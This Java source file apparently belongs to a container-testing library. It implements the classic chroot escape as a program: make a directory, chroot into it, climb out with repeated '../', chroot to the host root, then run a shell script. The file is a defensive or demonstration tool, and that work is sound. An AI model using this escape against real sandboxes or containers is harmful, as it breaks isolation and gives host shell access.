package containers.rootfs;

import static containers.calls.OpenFlag.O_CLOEXEC;
import static containers.calls.OpenFlag.O_CREAT;
import static containers.calls.OpenFlag.O_EXCL;
import static containers.calls.OpenFlag.O_WRONLY;

import containers.calls.DirectoryCalls;
import containers.calls.FileCalls;
import containers.calls.ProcessCalls;
import containers.executable.ProgramFile;
import containers.kernel.Argument;
import containers.kernel.CallList;
import containers.program.Program;
import java.util.List;

/**
 * The classic escape from chroot, as a program.
 *
 * <p>chroot(2) changes what {@code /} means, not where the process is. Whoever may call it again makes a directory and
 * changes the root to that: the working directory is now <em>outside</em> the root, so nothing stops {@code ".."} at the
 * root any more, and it leads up to the host's. The manual says so itself: chroot(2), "This call does not change the
 * current working directory, so that after the call '.' can be outside the tree rooted at '/'".
 */
public final class ChrootEscape {

    /** Where the child finds the program. */
    public static final String PATH = "/tmp/escape";

    private static final int DEEPER_THAN_ANY_DIRECTORY = 64;

    private ChrootEscape() {}

    /**
     * Lets the child write the program to its root filesystem.
     *
     * @param script what a shell is to do when the program is out, or believes to be
     */
    public static void addTo(CallList child, String script) {
        Argument.Result file = child.add(FileCalls.openat(PATH, 0755, O_WRONLY, O_CREAT, O_EXCL, O_CLOEXEC));
        child.add(FileCalls.write(file, program(script)));
        child.add(FileCalls.close(file));
    }

    // tag::escape[]
    private static byte[] program(String script) {
        CallList calls = new CallList();
        calls.add(DirectoryCalls.mkdirat("/tmp/below", 0755));
        calls.add(MountCalls.chroot("/tmp/below"));
        calls.add(DirectoryCalls.chdir("../".repeat(DEEPER_THAN_ANY_DIRECTORY)));
        calls.add(MountCalls.chroot("."));
        calls.add(ProcessCalls.execve("/bin/sh", List.of("sh", "-c", script), List.of("PATH=/usr/bin:/bin")));
        return ProgramFile.of(Program.of(calls)).content();
    }
    // end::escape[]
}
